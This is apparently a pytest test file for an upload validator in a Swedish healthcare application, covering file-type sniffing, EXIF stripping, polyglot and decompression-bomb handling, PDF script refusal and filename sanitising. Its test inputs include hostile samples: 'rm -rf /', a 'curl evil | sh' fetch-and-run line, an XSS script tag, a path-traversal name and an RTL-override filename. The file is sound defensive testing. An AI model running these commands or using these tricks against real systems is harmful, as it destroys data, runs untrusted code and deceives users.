"""What an upload is, judged by its bytes; what of it is kept."""
import io
import zipfile

import pytest
from PIL import ExifTags, Image

from avvikelse.attachments import content
from avvikelse.attachments.content import TooLarge, Unsupported
from avvikelse.core.errors import ValidationFailed
from tests.attachments import samples
from tests.fixtures.factories import TEST_PNR

ALL = set(content.STORED_AS)


def prepare(data, name="fil", declared=None, max_bytes=10_000_000, max_pixels=40_000_000, allowed=ALL):
    return content.prepare(data, name, declared, allowed=allowed, max_bytes=max_bytes, max_pixels=max_pixels)


@pytest.mark.parametrize("data,kind", [
    (samples.pdf(), "application/pdf"),
    (samples.photo(), "image/jpeg"),
    (samples.png(), "image/png"),
    (samples.photo(fmt="HEIF"), "image/heic"),
    (b"#!/bin/sh\nrm -rf /\n", None),
    (b"<html><script>alert(1)</script></html>", None),
    (b"PK\x03\x04zipzip", None),
    (b"   %PDF-1.7 (a header not at the start: how PDF polyglots begin)", None),
])
def test_the_type_is_read_from_the_content(data, kind):
    assert content.sniff(data) == kind


def test_a_script_named_pdf_is_415():
    with pytest.raises(Unsupported) as refused:
        prepare(b"#!/bin/sh\ncurl evil | sh\n", "epikris.pdf", "application/pdf")
    assert refused.value.status == 415 and "PDF, JPEG, PNG, HEIC" in refused.value.message


@pytest.mark.parametrize("name,declared", [
    ("lakemedelslista.pdf", None),  # a JPEG called .pdf
    ("foto.png", None),
    ("foto", "application/pdf"),  # declared as PDF by the client
])
def test_a_name_or_declared_type_that_says_another_type_is_415(name, declared):
    with pytest.raises(Unsupported) as refused:
        prepare(samples.photo(), name, declared)
    assert refused.value.status == 415 and "JPEG" in refused.value.message


def test_heic_and_heif_are_one_family_and_unknown_extensions_are_no_claim():
    assert prepare(samples.photo(fmt="HEIF"), "IMG_0001.HEIF").filename == "IMG_0001.jpg"
    kept = prepare(samples.photo(), "foto.exe", "application/octet-stream")
    assert kept.filename == "foto.exe.jpg" and kept.content_type == "image/jpeg"


def test_a_type_the_settings_leave_out_is_415():
    with pytest.raises(Unsupported):
        prepare(samples.png(), "bild.png", allowed={"application/pdf"})


def test_empty_and_oversized_files():
    with pytest.raises(ValidationFailed) as empty:
        prepare(b"", "tom.pdf")
    assert empty.value.errors == {"file": ["Filen är tom."]}
    with pytest.raises(TooLarge) as large:
        prepare(samples.pdf(), "stor.pdf", max_bytes=100)
    assert large.value.status == 413 and "Största tillåtna storlek" in large.value.message


def test_gps_and_camera_are_stripped_and_the_photo_turned_upright():
    sent = samples.photo(size=(40, 20), orientation=6)  # 6: turn 90° clockwise to view
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    kept = prepare(sent, "IMG_2041.JPG")
    image = Image.open(io.BytesIO(kept.data))
    assert image.format == "JPEG" and image.size == (20, 40)
    assert not image.getexif() and "exif" not in image.info and "icc_profile" not in image.info
    assert b"Telefonbolaget" not in kept.data and b"Exif" not in kept.data
    assert kept.filename == "IMG_2041.jpg"  # the extension of what is stored


def test_heic_becomes_jpeg_without_metadata():
    kept = prepare(samples.photo(fmt="HEIF"), "IMG_0001.HEIC", "image/heic")
    image = Image.open(io.BytesIO(kept.data))
    assert (kept.content_type, kept.filename, image.format) == ("image/jpeg", "IMG_0001.jpg", "JPEG")
    assert not image.getexif()


def test_png_keeps_transparency_and_loses_its_chunks():
    image = Image.new("RGBA", (8, 8), (0, 0, 0, 0))
    out = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Anna Andersson")
    image.save(out, "PNG", pnginfo=info)
    kept = prepare(out.getvalue(), "skiss.png")
    again = Image.open(io.BytesIO(kept.data))
    assert again.mode == "RGBA" and again.getpixel((0, 0))[3] == 0
    assert b"Anna Andersson" not in kept.data and not again.info.get("Author")


def test_a_polyglot_jpeg_is_neutralised_by_re_encoding():
    """A JPEG that is also a ZIP (appended) and carries HTML (in a comment) comes out as a
    JPEG only: the pixels are encoded anew and nothing else goes along."""
    sent = samples.polyglot_jpeg()
    assert zipfile.is_zipfile(io.BytesIO(sent)) and b"<script>" in sent
    kept = prepare(sent, "bild.jpg").data
    assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert b"<script>" not in kept and b"PK\x03\x04" not in kept and b"<html>" not in kept
    assert Image.open(io.BytesIO(kept)).format == "JPEG"


@pytest.mark.parametrize("width,height", [(20_000, 20_000), (8_000, 6_000)])
def test_decompression_bombs_and_huge_images_are_422_before_decoding(width, height):
    """20 000² trips Pillow's own DecompressionBombError; 48 megapixels our lower limit.
    The file is a few hundred bytes either way."""
    with pytest.raises(ValidationFailed) as refused:
        prepare(samples.png_header_only(width, height), "bomb.png")
    assert "miljoner pixlar" in refused.value.errors["file"][0]


def test_the_pixel_limit_is_a_setting():
    with pytest.raises(ValidationFailed):
        prepare(samples.photo(size=(200, 100)), "foto.jpg", max_pixels=10_000)
    assert prepare(samples.photo(size=(100, 100)), "foto.jpg", max_pixels=10_000)


def test_a_broken_image_is_422():
    with pytest.raises(ValidationFailed) as refused:
        prepare(samples.photo()[:200], "trasig.jpg")
    assert "kunde inte läsas" in refused.value.errors["file"][0]


def test_a_plain_pdf_is_kept_as_sent():
    sent = samples.pdf()
    kept = prepare(sent, "Epikris.pdf")
    assert (kept.data, kept.content_type, kept.filename) == (sent, "application/pdf", "Epikris.pdf")


@pytest.mark.parametrize("data,words", [
    (samples.pdf(javascript="app.alert('x')"), "skript"),
    (samples.pdf(launch=True), "kommandon"),
    (samples.pdf(javascript="x").replace(b"/JavaScript", b"/J#61vaScript"), "skript"),
    (samples.pdf(password="hemligt"), "krypterad"),
    (b"%PDF-1.7\nnot really a pdf at all\n", "kunde inte läsas"),
])
def test_pdfs_that_run_something_are_encrypted_or_broken_are_refused(data, words):
    with pytest.raises(ValidationFailed) as refused:
        prepare(data, "brev.pdf")
    assert words in refused.value.errors["file"][0]


@pytest.mark.parametrize("raw,expected", [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\anna\\Desktop\\epikris.pdf", "epikris.pdf"),
    ("evil\u202egpj.exe.pdf", "evilgpj.exe.pdf"),  # RTL override: would show as "fdp.exe.jpg"
    ("tab\tand\nnewline\x00nul.pdf", "tab and newlinenul.pdf"),
    ("zero\u200bwidth.pdf", "zerowidth.pdf"),
    ('a<b>c:"d"|e?*.pdf', "a_b_c__d__e__.pdf"),
    ("...", "bilaga.pdf"),
    ("", "bilaga.pdf"),
    (f"epikris {TEST_PNR}.pdf", "epikris [personnummer].pdf"),
    ("Läkemedelslista Åre.pdf", "Läkemedelslista Åre.pdf"),
    ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
])
def test_file_names_are_made_safe(raw, expected):
    assert content.safe_filename(raw, ".pdf") == expected
